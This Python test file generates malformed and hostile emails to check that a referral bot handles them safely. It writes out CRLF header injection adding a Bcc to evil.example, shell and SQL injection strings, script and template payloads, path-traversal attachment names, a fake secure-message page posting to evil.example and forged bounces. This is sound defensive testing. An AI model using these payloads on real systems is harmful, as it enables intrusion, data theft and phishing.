"""Headers, seals, names of files and structures that would break whoever reads them."""

import re
from collections.abc import Iterator

from cspr_bot.demonstration.post import Enclosure
from tests.post.attack import LETTER, Attack, Post, with_from, with_headers, with_subject
from tests.post.bounces import for_good, for_now
from tests.post.structures import STRUCTURES
from tests.scenarios.people import NURSE, SERVICE_LEADER


def headers(post: Post) -> Iterator[Attack]:
    line = "CRLF, NUL, bidi, ANSI"
    for name, value in (
        ("an encoded line break", "=?utf-8?q?Referral=0D=0ABcc:_x=40evil.example?="),
        ("an encoded NUL", "=?utf-8?q?Ref=00erral?="),
        ("an escape", "\x1b[31mReferral\x1b[0m"),
        ("right to left", "\u202eLARREFER"),
        ("a line of a megabyte", "x" * 150_000),
        ("a template", "{{ 7 * 7 }} {% raw %} ${7*7} %s %(x)s"),
        ("markup", "<script>alert(1)</script>"),
        ("a command", "$(reboot) `reboot` ; reboot | reboot"),
        ("SQL", "'; DROP TABLE inbox; --"),
        ("a formula", "=HYPERLINK(1)"),
    ):
        raw = with_subject(value, post.form)
        yield Attack(line, f"control: {name} in the subject", raw, "opened")
    for header in (
        "Message-ID: <[x@y>",
        "Message-ID:",
        "Message-ID: <a@b> <c@d>",
        "Date: Mon, 99 Foo 20260 99:99:99 +9999",
        "Date:",
        "In-Reply-To: <" + "a" * 5000 + ">",
        "References: " + "<a@b> " * 500,
        "Content-Length: -1",
        "X-Priority: " + "9" * 400,
    ):
        yield Attack(line, f"control: {header[:30]}", with_headers(post.form, header), "opened")
    yield Attack(
        line, "5,000 headers", with_headers(post.form, *(f"X-{number}: x" for number in range(5000))), "opened"
    )
    yield Attack(
        line,
        "300 kB of headers",
        with_headers(post.form, *(f"X-{number}: {'x' * 300}" for number in range(1000))),
        "form",
    )
    raw = with_from(post.form, '"Verity\x1b[31m \u202eLockhart" <verity.lockhart@nhs.example>')
    yield Attack(line, "control: an escape in the name", raw, "opened")


def sealed(post: Post) -> Iterator[Attack]:
    line = "sealed"
    for name, kind, content in (
        ("smime.p7m", ("application", "pkcs7-mime"), b"0\x80\x06\x09*\x86H"),
        ("smime.p7m", ("application", "x-pkcs7-mime"), b"0\x80\x06\x09*\x86H"),
        ("smime.p7m", ("application", "octet-stream"), b"0\x80\x06\x09*\x86H"),
        ("encrypted.asc", ("application", "pgp-encrypted"), b"Version: 1"),
        ("message.rpmsg", ("application", "x-microsoft-rpmsg-message"), b"v\xe8\x04`\xc4\x11\xe3\x86"),
        ("message_v4.rpmsg", ("application", "octet-stream"), b"v\xe8\x04`\xc4\x11\xe3\x86"),
        ("SecureMessage.switch", ("application", "octet-stream"), b"Egress"),
        ("securedoc_20261215.html", ("text", "html"), b"<html><form action='https://evil.example'></form></html>"),
        ("Encrypted_Message.html", ("text", "html"), b"<html>open me</html>"),
        ("winmail.dat", ("application", "ms-tnef"), b"\x78\x9f\x3e\x22\x01\x00"),
    ):
        raw = post.letter(NURSE, "Referral", "Please see attached.", Enclosure(name, kind, content))
        yield Attack(line, f"{name} as {'/'.join(kind)}", raw, "form")
    pgp = "-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n"
    yield Attack(line, "PGP in the text", post.letter(NURSE, "Referral", pgp), "form")
    whole = re.sub(
        rb"Content-Type: .*",
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m",
        post.letter(NURSE, "x", "MIAGCSqGSIb3"),
        count=1,
    )
    yield Attack(line, "sealed as a whole", whole, "form")
    egress = "You have received a secure message. Click to read it: https://switch.egress.example/read\n"
    yield Attack(
        line,
        "a link to a secure message",
        post.letter(NURSE, "Secure message", egress, Enclosure("SecureMessageAtt.html", ("text", "html"), b"<p>x</p>")),
        "form",
    )


def file_names(post: Post) -> Iterator[Attack]:
    for name in (
        "../../etc/passwd.docx",
        "/etc/cron.d/x.docx",
        "C:\\Windows\\x.docx",
        "CON.docx",
        "form.docx:stream",
        "xcod\u202e.docx",
        "x" * 4000 + ".docx",
        "$(reboot).docx",
        "<img src=x>.docx",
        "form.exe",
        "form.png",
        "",
        ".",
        "\x1b[31mform.docx",
    ):
        file = Enclosure(name, post.word.kind, post.word.content)
        raw = (
            post.letter(NURSE, "Referral", LETTER, file)
            if "\x1b" not in name
            else post.form.replace(b".docx", b"\x1b[31m.docx")
        )
        yield Attack("file names", f"control: {name[:20]!r}", raw, "opened")
    other = Enclosure("form.docx", ("image", "png"), post.word.content)
    yield Attack(
        "file names",
        "control: a form that calls itself a picture",
        post.letter(NURSE, "Referral", LETTER, other),
        "opened",
    )
    report = Enclosure("", ("message", "delivery-status"), post.word.content)
    raw = post.letter(NURSE, "Referral", LETTER, Enclosure("form.docx", post.word.kind, post.word.content))
    raw = raw.replace("/".join(post.word.kind).encode(), b"/".join(part.encode() for part in report.kind))
    yield Attack("file names", "control: a form that calls itself a report", raw, "opened")


def structures(post: Post) -> Iterator[Attack]:
    head = post.letter(NURSE, "Referral", "x").partition(b"\r\n\r\n")[0]
    head = re.sub(rb"\r\n(?:Content-[^\r]*|MIME-Version[^\r]*)", b"", head)
    for name, make, fate in STRUCTURES:
        yield Attack("structures", name, make(head, post.word.content), fate)


def bounces(post: Post) -> Iterator[Attack]:
    for item in (
        *list(for_now(post.question, SERVICE_LEADER))[::9],
        *list(for_good(post.question, SERVICE_LEADER))[::9],
    ):
        yield Attack("bounces", f"control: {item.name}", item.raw, "bounce")
        forged = re.sub(rb"X-CSPR-Effect: \S+", b"X-CSPR-Effect: guessed", item.raw)
        forged = re.sub(rb"Message-ID: <[^>]+>", b"Message-ID: <guessed@nsscp.example>", forged, flags=re.IGNORECASE)
        yield Attack("bounces", f"forged: {item.name}", forged, "quiet")
